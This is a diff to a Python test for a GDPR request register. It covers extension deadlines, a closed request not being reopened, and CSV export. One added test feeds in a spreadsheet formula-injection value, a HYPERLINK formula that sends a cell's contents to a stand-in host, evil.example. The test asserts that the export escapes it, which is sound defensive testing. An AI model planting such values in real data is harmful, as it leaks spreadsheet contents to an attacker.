@@ -243,8 +243,12 @@ def test_register_deadlines(vault_app, filled: dict, engine) -> None:  # noqa: A
         assert request.due_on == date(2026, 2, 28)  # one calendar month (Art. 12(3))
         with pytest.raises(GdprError, match="raison"):
             gdpr.extend(session, request_id=request.id, reason=" ", told_on=date(2026, 2, 10), by=DPO)
+        with pytest.raises(GdprError, match="entre la réception"):
+            gdpr.extend(session, request_id=request.id, reason="demande complexe", told_on=date(2026, 1, 2), by=DPO)
         gdpr.extend(session, request_id=request.id, reason="demande complexe", told_on=date(2026, 2, 10), by=DPO)
-        assert request.extended_to == date(2026, 4, 28)
+        # Three months from receipt (Regulation 1182/71, art. 3): 30 April, although the first
+        # month ended on 28 February.
+        assert request.extended_to == date(2026, 4, 30)
         with pytest.raises(GdprError, match="déjà"):
             gdpr.extend(session, request_id=request.id, reason="encore", told_on=date(2026, 2, 11), by=DPO)
         assert request in gdpr.list_requests(session, view="overdue")
@@ -253,6 +257,13 @@ def test_register_deadlines(vault_app, filled: dict, engine) -> None:  # noqa: A
         gdpr.close(session, request_id=request.id, status="refused", outcome="refus", refusal_reason="Demande abusive.",
                    by=DPO)
         assert "CNIL" in request.refusal_reason
+        with pytest.raises(GdprError, match="close"):  # a closed request is not reopened by an extension
+            gdpr.extend(session, request_id=request.id, reason="x", told_on=date(2026, 2, 10), by=DPO)
+        formula = gdpr.open_request(session, kind="access", citizen_id=filled["id"], channel="mail", by=DPO,
+                                    identity_check='=HYPERLINK("http://evil.example/?"&A1,"clic")')
+        gdpr.close(session, request_id=formula.id, status="done", outcome="@SUM(1+1)", by=DPO)
         csv_text = "".join(gdpr.register_csv(session))
         assert "Jeanne Marie Martin" in csv_text and "refused" in csv_text
+        # What staff typed is text in a spreadsheet, never a formula (CSV injection).
+        assert "'=HYPERLINK" in csv_text and "'@SUM(1+1)" in csv_text and ",=" not in csv_text
         session.commit()
